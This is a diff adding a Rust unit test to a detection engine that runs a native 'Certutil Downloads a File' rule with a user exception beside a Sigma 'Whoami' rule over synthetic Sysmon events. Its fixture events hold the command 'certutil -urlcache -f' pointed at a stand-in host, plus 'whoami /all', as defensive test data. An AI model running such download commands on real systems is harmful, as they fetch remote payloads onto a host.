@@ -328,3 +328,71 @@ fn a_detection_for_an_unmapped_log_source_fails_to_compile_with_the_reason() {
     let e = CompiledRule::compile(&rule, now()).unwrap_err();
     assert!(e.to_string().contains("macos"), "{e}");
 }
+
+#[test]
+fn native_sigma_rules_run_in_the_engines_shared_sigma_set_with_their_exceptions() {
+    use secops_detect::{Engine, IndicatorSet};
+    let with_exception = NATIVE_SIGMA.replace(
+        "[rule.log_source]",
+        "[[rule.exceptions]]\ndescription = \"the patch server\"\n[[rule.exceptions.entries]]\nfield = \"Event.EventData.User\"\ntype = \"match\"\nvalue = 'CORP\\patch'\n\n[rule.log_source]",
+    );
+    let native = load_text(Path::new("certutil.toml"), &with_exception).unwrap();
+    // With SigmaHQ's own rules beside it, so the set is shared.
+    let text = "title: Whoami\nid: 8f0b3c6a-1c2d-4e5f-8a9b-0c1d2e3f4a5b\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    selection:\n        Image|endswith: '\\whoami.exe'\n    condition: selection\nlevel: low\n";
+    let documents = parse_file(Path::new("whoami.yml"), text, &Placeholders::new()).unwrap();
+    let compiled = sigma::compile(&documents, Mapping::shared_bundled());
+    let (mut engine, errors) =
+        Engine::with_sigma(&[native], compiled, now(), &IndicatorSet::default());
+    assert!(errors.is_empty(), "{errors:?}");
+    let event = |image: &str, command: &str, user: &str| {
+        let line = serde_json::json!({"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
+            "EventID": 1, "TimeCreated": {"#attributes": {"SystemTime": "2026-05-14T08:03:40.1Z"}}, "EventRecordID": 1,
+            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS1"},
+            "EventData": {"Image": image, "CommandLine": command, "User": user}}});
+        let mut events = Vec::new();
+        secops_ingest::read_bytes(
+            secops_ingest::Format::Json,
+            "test",
+            line.to_string().as_bytes(),
+            &secops_ingest::Options::default(),
+            &mut |r| events.extend(r.ok()),
+        );
+        events.remove(0)
+    };
+    let mut alerts = Vec::new();
+    engine.process(
+        &event(
+            r"C:\Windows\System32\certutil.exe",
+            "certutil -urlcache -f http://x.example/a",
+            r"CORP\jdoe",
+        ),
+        &mut alerts,
+    );
+    engine.process(
+        &event(
+            r"C:\Windows\System32\certutil.exe",
+            "certutil -urlcache -f http://x.example/a",
+            r"CORP\patch",
+        ),
+        &mut alerts,
+    );
+    engine.process(
+        &event(
+            r"C:\Windows\System32\whoami.exe",
+            "whoami /all",
+            r"CORP\jdoe",
+        ),
+        &mut alerts,
+    );
+    let names: Vec<&str> = alerts.iter().map(|a| a.rule.name.as_str()).collect();
+    assert_eq!(names, vec!["Certutil Downloads a File", "Whoami"]);
+    let certutil = engine
+        .rules()
+        .iter()
+        .find(|r| r.info.name == "Certutil Downloads a File")
+        .unwrap();
+    assert_eq!(
+        (certutil.stats().matched, certutil.stats().excepted),
+        (2, 1)
+    );
+}
